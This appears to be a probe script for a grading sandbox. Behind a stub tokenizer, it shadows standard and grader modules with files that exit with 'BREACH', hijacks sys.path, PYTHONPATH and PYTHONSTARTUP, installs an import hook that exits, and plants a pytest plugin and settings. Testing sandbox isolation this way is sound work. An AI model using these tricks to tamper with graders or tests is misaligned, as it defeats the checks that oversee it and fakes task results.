# %% [prelude]
import os, sys
corpus = ["The quick brown fox jumps over the lazy dog", "Tokenization converts text to numbers"]
PAD, UNK = "[PAD]", "[UNK]"
vocab = [PAD, UNK, UNK, *dict.fromkeys(" ".join(corpus).split())]
word2id, id2word = {word: i for i, word in enumerate(vocab)}, {}
def encode(text): return []
def decode(ids): return ""
TRAP = "import os\nraise SystemExit('BREACH: imported in %d' % os.getpid())\n"

# %% [1.1 failed|errored|crashed] writes modules into its working folder and in front of the path
for name in ("torch.py", "json.py", "msgspec.py", "random.py", "conftest.py", "sitecustomize.py", "grader.py", "pytest.py", "x.pth"):
    with open(name, "w") as file:
        file.write(TRAP)
sys.path[:0] = ["", os.getcwd()]
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()

# %% [1.1 failed|errored|crashed] hooks the import system for whoever imports next
class Finder:
    def find_spec(self, name, path=None, target=None): raise SystemExit(0)
sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, lambda path: Finder())
sys.modules["grader.sandbox.course.probes"] = sys.modules["grader.offline.supply"] = None

# %% [1.1 failed|errored] leaves a plugin, an entry point and settings for pytest
os.makedirs("breach-1.0.dist-info", exist_ok=True)
for name, text in (("breach-1.0.dist-info/entry_points.txt", "[pytest11]\nx = conftest\n"), ("conftest.py", TRAP),
                   ("pytest.ini", "[pytest]\naddopts = -p conftest\n"), ("pyproject.toml", "[tool.pytest.ini_options]\n")):
    with open(name, "w") as file:
        file.write(text)
os.environ["PYTEST_ADDOPTS"] = os.environ["PYTEST_PLUGINS"] = "conftest"
